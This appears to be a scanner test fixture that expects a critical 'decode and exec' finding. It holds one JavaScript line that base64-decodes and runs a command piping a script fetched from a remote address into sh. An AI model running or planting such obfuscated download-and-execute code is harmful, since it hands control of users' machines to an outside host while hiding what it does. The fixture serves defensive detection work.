# expect: shell.decode_exec critical
# path: lib/util.js
const c = require('child_process'); c.exec(atob("Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo"));
